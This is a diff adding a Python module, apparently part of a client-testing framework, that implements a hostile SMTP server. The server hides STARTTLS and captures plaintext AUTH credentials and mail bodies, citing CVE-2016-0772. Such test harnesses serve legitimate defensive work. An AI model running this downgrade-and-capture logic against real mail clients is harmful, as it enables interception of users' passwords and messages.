@@ -1,0 +1,71 @@
+"""A mail server that, once it has turned, no longer offers STARTTLS: whoever sits between can cut the word out.
+
+A client that goes on regardless sends its password and its mails in plaintext.
+"""
+
+import base64
+import binascii
+
+from backwatch.attack.protocols.server import LARGEST, HostileServer, Session
+
+
+class SMTP(HostileServer):
+    """Order confirmations are sent through it; then it hides STARTTLS."""
+
+    name = "smtp"
+    attack = "hides STARTTLS, and takes logins in clear"
+    reference = "CVE-2016-0772; https://github.com/tintinweb/striptls"
+    driver = "smtplib"
+    rule = "tls-stripped"
+
+    def serve(self, session: Session) -> None:
+        """Commands until QUIT; every mail is taken and thrown away."""
+        session.send(b"220 mail.shop.example ESMTP\r\n")
+        while True:
+            said = session.line()
+            verb, _, rest = said.upper().partition(b" ")
+            if verb in (b"EHLO", b"HELO"):
+                session.send(self._greeting(session))
+            elif verb == b"STARTTLS" and not self.hostile and not session.secured:
+                session.send(b"220 go ahead\r\n")
+                session.secure()
+            elif verb == b"DATA":
+                session.send(b"354 go ahead\r\n")
+                self._take_mail(session)
+                session.send(b"250 taken\r\n")
+            elif verb == b"QUIT":
+                session.send(b"221 bye\r\n")
+                return
+            elif verb == b"AUTH":
+                session.send(self._login(session, said.split(b" ")[-1] if b" " in rest else b""))
+            else:
+                session.send(b"250 ok\r\n")
+
+    def _take_mail(self, session: Session) -> None:
+        size = 0
+        while (line := session.line()) != b".":
+            size += len(line)
+            if size > LARGEST:
+                raise ValueError("a mail of that size is not the shop's")
+            self._overheard(session, line)
+
+    def _login(self, session: Session, secret: bytes) -> bytes:
+        if not session.secured and not self.hostile:
+            return b"538 encryption required\r\n"
+        try:
+            self._overheard(session, base64.b64decode(secret, validate=True))
+        except binascii.Error:
+            return b"501 what\r\n"
+        return b"235 welcome\r\n"
+
+    def _overheard(self, session: Session, what: bytes) -> None:
+        if not session.secured:
+            self.taken(what)
+
+    def _greeting(self, session: Session) -> bytes:
+        offers = [b"mail.shop.example", b"8BITMIME"]
+        if session.secured or self.hostile:
+            offers.append(b"AUTH PLAIN")
+        else:
+            offers.append(b"STARTTLS")
+        return b"".join(b"250-" + one + b"\r\n" for one in offers[:-1]) + b"250 " + offers[-1] + b"\r\n"
